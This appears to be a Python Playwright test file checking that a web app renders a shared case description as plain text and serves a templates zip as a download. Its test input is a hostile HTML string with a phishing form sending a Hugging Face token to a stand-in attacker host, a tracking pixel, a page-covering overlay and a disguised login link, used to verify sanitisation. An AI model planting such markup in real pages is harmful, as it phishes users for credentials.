"""Issue 25 in Chromium: what a visitor receives from someone else is shown as text, and what the
server makes for a visitor is not left on its disk. A share link's case description cannot dress the
page (no form asking for a token, no image from another host, no styles); the zip the Publish tab
offers is a link carrying the file itself, and downloads as the templates."""

from __future__ import annotations

import io
import zipfile

from playwright.sync_api import Browser, Page, expect

from app.state import encode_workspace
from engine.cases import Case
from tests.browser.conftest import open_app
from tests.test_app_support import workspace

HOSTILE = ('Read this first. <form id="phish" action="https://evil.example/steal"><input id="phish-token" '
           'placeholder="Paste your Hugging Face token"></form><img id="pixel" src="https://evil.example/p.png"> '
           '![x](https://evil.example/y.png) <div id="cover" style="position:fixed;inset:0;background:red">cover</div> '
           "[the docs](https://evil.example/login) `<think>`")


def test_a_shared_description_is_text_with_visible_links(browser: Browser, app_url: str) -> None:
    shared = workspace(cases=[Case("shared", [{"role": "user", "content": "hi"}], description=HOSTILE)], case_name="shared")
    context = browser.new_context(viewport={"width": 1500, "height": 1000})
    try:
        page = context.new_page()
        page.set_default_timeout(20_000)
        open_app(page, f"{app_url}#s={encode_workspace(shared)}")
        description = page.locator("#case-panel div.case-description-text")
        expect(description).to_contain_text("Read this first.")
        for element in ("#phish", "#phish-token", "#pixel", "#cover", "form", "input", "img", "iframe"):
            expect(description.locator(element)).to_have_count(0)
        expect(page.locator("#phish-token")).to_have_count(0)  # nowhere on the page
        link = description.locator("a", has_text="the docs")
        expect(link).to_have_text("the docs (https://evil.example/login)")  # where it goes, in plain sight
        expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
        expect(description.locator("code")).to_have_text("<think>")
    finally:
        context.close()


def test_the_zip_is_a_link_carrying_the_files(shared_page: Page) -> None:
    shared_page.click('#tabs button[role=tab]:has-text("Publish")')
    shared_page.click("#publish-download")
    link = shared_page.locator("#publish-zip a.zip-link")
    expect(link).to_have_attribute("download", "templates.zip")
    with shared_page.expect_download() as download:
        link.click()
    data = download.value.path().read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "chat_template.jinja" in archive.namelist() and archive.read("chat_template.jinja")
